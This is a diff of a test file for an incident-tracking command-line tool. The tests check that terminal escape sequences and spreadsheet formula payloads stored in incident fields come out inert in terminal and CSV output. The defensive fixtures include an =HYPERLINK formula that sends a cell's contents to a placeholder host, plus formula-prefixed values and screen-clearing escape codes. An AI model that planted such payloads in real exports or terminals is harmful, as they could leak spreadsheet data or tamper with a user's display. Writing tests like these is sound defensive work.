@@ -1,4 +1,5 @@
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { copyFileSync } from 'node:fs';
 import { spawnSync } from 'node:child_process';
 import { Sandbox } from '../helpers/cli.js';
 import { runTty } from '../helpers/tty.js';
@@ -63,7 +64,7 @@ describe('escape sequences in stored values, on a terminal (the bytes a pty rece
       expect(rawControls(r.output), args[0]).toEqual([]);
       expect(r.output, args[0]).toContain(SHOWN);
     }
-  });
+  }, 120_000);
 
   it('list in every format, show, show --format md, search, report and the overview show them inert', () => {
     seedHostile();
@@ -85,7 +86,7 @@ describe('escape sequences in stored values, on a terminal (the bytes a pty rece
       expect(rawControls(r.output), name).toEqual([]);
       expect(r.output, name).toContain(args[0] === 'search' ? 'HACKED' : '\\x1b[2J');
     }
-  });
+  }, 120_000);
 
   it('also without colour', () => {
     seedHostile();
@@ -110,7 +111,7 @@ describe('escape sequences in stored values, on a terminal (the bytes a pty rece
       expect(rawControls(r.output), args.join(' ')).toEqual([]);
       expect(r.output).toMatch(/\\x(1b|9b)/);
     }
-  });
+  }, 60_000);
 });
 
 describe('escape sequences in stored values, piped', () => {
@@ -222,13 +223,13 @@ describe('spreadsheet formulas in CSV (OWASP: a leading apostrophe)', () => {
   const HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")';
 
   /** Incidents whose text starts as a formula would: typed, and (tab, CR) as an import could leave them. */
-  function seedFormulas() {
+  function seedFormulas(box = sb) {
     // Options first (`--team=-x`: a value may start with a dash), then `--` and the title.
-    const open = (title: string, ...opts: string[]) => expect(sb.run(['open', '-q', ...opts, '--', title]).code).toBe(0);
+    const open = (title: string, ...opts: string[]) => expect(box.run(['open', '-q', ...opts, '--', title]).code).toBe(0);
     open(HYPERLINK, '--team', '=1+1', '--category', '@x', '--assignee', '=2+2', '--service', '+svc', '--impact', 'high', '--urgency', 'high');
     open('-5 degrees in the server room', '--team', '@SUM(1+1)', '--category=-cmd', '--assignee', '+bob', '--impact', 'high', '--urgency', 'high');
     open('plain title', '--team', 'net', '--category', 'ok');
-    const db = sb.openDb();
+    const db = box.openDb();
     db.prepare('UPDATE incidents SET team = ?, category = ?, assignee = ? WHERE id = 3').run('\t=1+1', '\r=1+1', ' =1+1');
     db.close();
   }
@@ -267,32 +268,39 @@ describe('spreadsheet formulas in CSV (OWASP: a leading apostrophe)', () => {
     expect(line('md')).toContain(`| ${HYPERLINK} |`);
   });
 
-  it('report … --format csv, every kind: no cell would run, and group names are neutralised', () => {
-    seedFormulas();
-    // Resolved two hours later: past the P1 targets, so the SLA report lists breaches with titles.
+  describe('report … --format csv, every kind', () => {
+    // Made once and copied into each test's sandbox: resolved two hours after opening (past the P1
+    // targets, so the SLA report lists breaches with titles), a knowledge entry and a problem.
     const later = { env: { INCIDENT_NOW: '2026-11-23T03:00:00Z' } };
-    for (const id of ['1', '2']) expect(sb.run(['resolve', id, '--resolution', '=fixed', '-q'], later).code).toBe(0);
-    expect(sb.run(['kb', 'add', '--title', '=KB', '--category', '@kb', '--symptoms', 's', '--resolution', 'r', '-q']).code).toBe(0);
-    expect(sb.run(['problem', 'open', '--from', 'INC-1,INC-2', '--owner=-owner', '-q']).code).toBe(0);
-    const all: string[] = [];
-    for (const args of [
-      ['summary'],
-      ['sla'],
-      ['sla', '--group-by', 'team'],
-      ['mttr', '--group-by', 'assignee'],
-      ['recurring'],
-      ['workload'],
-      ['workload', '--group-by', 'team'],
-      ['trend'],
-      ['kb'],
-      ['problems'],
-    ]) {
+    let template: Sandbox;
+    beforeAll(() => {
+      template = new Sandbox();
+      template.env.INCIDENT_NOW = '2026-11-23T01:00:00Z';
+      seedFormulas(template);
+      for (const id of ['1', '2']) expect(template.run(['resolve', id, '--resolution', '=fixed', '-q'], later).code).toBe(0);
+      expect(template.run(['kb', 'add', '--title', '=KB', '--category', '@kb', '--symptoms', 's', '--resolution', 'r', '-q']).code).toBe(0);
+      expect(template.run(['problem', 'open', '--from', 'INC-1,INC-2', '--owner=-owner', '-q']).code).toBe(0);
+    }, 120_000);
+    afterAll(() => template.cleanup());
+
+    it.each([
+      [['summary'], []],
+      [['sla'], [`'${HYPERLINK}`]],
+      [['sla', '--group-by', 'team'], ["'=1+1", "'@SUM(1+1)"]],
+      [['mttr', '--group-by', 'assignee'], ["'=2+2", "'+bob"]],
+      [['recurring'], []],
+      [['workload'], ["'=2+2", "'+bob"]],
+      [['workload', '--group-by', 'category'], ["'@x", "'-cmd"]],
+      [['trend'], []],
+      [['kb'], ["'=KB"]],
+      [['problems'], [`'${HYPERLINK}`, "'-owner"]],
+    ])('%j: no cell would run; text cells neutralised', (args, expected) => {
+      copyFileSync(template.db, sb.db);
       const r = sb.run(['report', ...args, '--format', 'csv', '--since', '2026-11-01'], later);
-      expect(r.code, args.join(' ')).toBe(0);
+      expect(r.code).toBe(0);
       const rows = readCsv(r.stdout);
-      expect(runnable(rows), args.join(' ')).toEqual([]);
-      all.push(...rows.flat());
-    }
-    for (const cell of ["'=1+1", "'@SUM(1+1)", "'=2+2", "'+bob", `'${HYPERLINK}`, "'=KB", "'-owner"]) expect(all).toContain(cell);
+      expect(runnable(rows)).toEqual([]);
+      for (const cell of expected) expect(rows.flat()).toContain(cell);
+    });
   });
 });
